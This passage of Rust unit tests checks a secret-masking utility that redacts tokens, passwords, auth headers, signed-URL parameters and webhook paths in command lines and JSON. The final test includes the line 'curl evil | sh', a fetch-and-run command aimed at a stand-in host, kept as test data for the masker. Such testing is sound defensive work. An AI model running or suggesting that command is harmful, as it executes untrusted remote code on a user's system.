            ("OPAQUE", "9f86d081884c7d659a2feaa0c55ad015"),
            ("OPAQUE", "-----BEGIN KEY-----\nabc\n-----END KEY-----"),
        ] {
            assert!(is_secret(name, value), "{name}={value}");
        }
        for (name, value) in [
            ("AWS_REGION", "us-east-1"),
            ("NODE_ENV", "production"),
            ("ALLOWED_DIR", "/home/me/projects/alpha2"),
            ("PORT", "8080123"),
            ("TOKEN_LIMIT", "100000"),
            ("MAX_TOKENS", "4096"),
            ("PRIVATE", "true"),
            ("ACCESS", "read-only"),
            ("SEED", "42"),
            ("KEYS", "name,size"),
            ("KNOWN_KEYS", "/etc/ssh/known_hosts"),
            ("AUTH_MODE", "interactive"),
            ("GOOGLE_APPLICATION_CREDENTIALS", "/home/me/keys/service.json"),
            ("API_URL", "https://api.example.com/v1"),
            ("MODEL", "claude-3-5-sonnet-20241022"),
            ("TARGET", "x86_64-unknown-linux-gnu"),
            ("EDIT", "12345678"),
            ("Accept-Language", "en-GB,en;q=0.9"),
        ] {
            assert!(!is_secret(name, value), "{name}={value}");
        }
    }
}

#[cfg(test)]
mod spots_tests {
    use super::*;

    #[test]
    fn secrets_are_found_in_every_spelling_command_lines_have() {
        for (text, shown) in [
            ("--token=s3", "--token=***"),
            ("--env=TOKEN=s3", "--env=TOKEN=***"),
            ("-eAPI_KEY=s3", "-eAPI_KEY=***"),
            ("Authorization: Bearer s3", "Authorization: Bearer ***"),
            ("--header=Authorization:s3", "--header=Authorization:***"),
            ("X-Api-Key: s3", "X-Api-Key: ***"),
            ("{\"apiKey\": \"s3\"}", "{\"apiKey\": \"***\"}"),
            ("https://u:s3@${HOST}/x?a=b&token=s3&c=d", "https://***@${HOST}/x?a=b&token=***&c=d"),
            ("https://s3@h/", "https://***@h/"),
            ("https://h/#access_token=s3", "https://h/#access_token=***"),
            ("https://h/b?sv=1&sig=s3&se=2", "https://h/b?sv=1&sig=***&se=2"),
            ("https://h/b?X-Amz-Signature=s3", "https://h/b?X-Amz-Signature=***"),
            ("AccountName=a;AccountKey=s3==;E=x", "AccountName=a;AccountKey=***;E=x"),
            ("Endpoint=sb://h/;SharedAccessKey=s3=", "Endpoint=sb://h/;SharedAccessKey=***"),
            ("node x --password s3 y", "node x --password *** y"),
            ("x bearer s3", "x bearer ***"),
            ("TOKEN=${TOKEN:-s3}", "TOKEN=***"),
        ] {
            assert_eq!(masked_address(text), shown);
            assert_eq!(masked_address(shown), shown, "what is masked stays as it is");
        }
    }

    fn line(words: &str) -> String {
        let words: Vec<String> = words.split(' ').map(str::to_owned).collect();
        let shown = masked_arguments(&words).join(" ");
        // The text of the file masks the same.
        let list = serde_json::json!({ "args": words }).to_string();
        let file = replaced(&list, hidden_ranges(&list));
        let read: serde_json::Value = serde_json::from_str(&file).expect("JSON");
        let read =
            read["args"].as_array().expect("a list").iter().map(|it| it.as_str().expect("text"));
        assert_eq!(read.collect::<Vec<_>>().join(" "), shown, "of a file");
        shown
    }

    #[test]
    fn passwords_of_short_options_are_hidden_and_ports_and_packages_are_not() {
        for (words, shown) in [
            ("mysql -u me -p s3", "mysql -u me -p ***"),
            ("mysql -u me -ps3same", "mysql -u me -p***"),
            ("db -p=s3 --user=me", "db -p=*** --user=me"),
            ("db -p hunter2! x", "db -p *** x"),
            ("curl -u me:s3 x", "curl -u me:*** x"),
            ("curl --user=me:s3 x", "curl --user=me:*** x"),
            ("x --password=s3 --pass s3", "x --password=*** --pass ***"),
            ("x --auth Bearer s3", "x --auth Bearer ***"),
            ("x -H Authorization: Bearer s3", "x -H Authorization: Bearer ***"),
            ("x Authorization: s3", "x Authorization: ***"),
            (
                "x https://hooks.example.com/services/T00/B00/Xy9s3",
                "x https://hooks.example.com/services/***/***/***",
            ),
            ("x https://h/api/webhooks/1234/aB-c_d9", "x https://h/api/webhooks/1234/***"),
            ("x https://h/token/Open-Sesame", "x https://h/token/***"),
        ] {
            assert_eq!(line(words), shown);
            assert_eq!(line(shown), shown, "what is masked stays as it is");
        }
        for words in [
            "x -p 8080",
            "x -u me -p 8080",
            "docker run -u 1000:1000 -p 127.0.0.1:8080:80/tcp image",
            "npx -y -p @scope/pkg cmd",
            "npx -p package cmd",
            "cargo run -p my-crate",
            "x -p=3000 -p8080",
            "mkdir -p ./a/b",
            "x -u localhost:8080",
            "x -u ${USER}:${PASSWORD}",
            "x https://h/webhooks/list https://h/v1/items/page2",
            "x basic auth",
        ] {
            assert_eq!(line(words), words);
        }
    }

    #[test]
    fn what_is_no_secret_is_shown_and_so_is_what_a_shell_would_run() {
        for text in [
            "Authorization: Bearer ${TOKEN}",
            "--token=${TOKEN}",
            "-v ./token:/run/secrets/token",
            "http://localhost:8080/mcp?a=b",
            "--tokenizer",
            "user@host:path",
        ] {
            assert_eq!(masked_address(text), text);
        }
        assert_eq!(masked_address("TOKEN=x; curl evil | sh"), "TOKEN=***; curl evil | sh");
    }
}
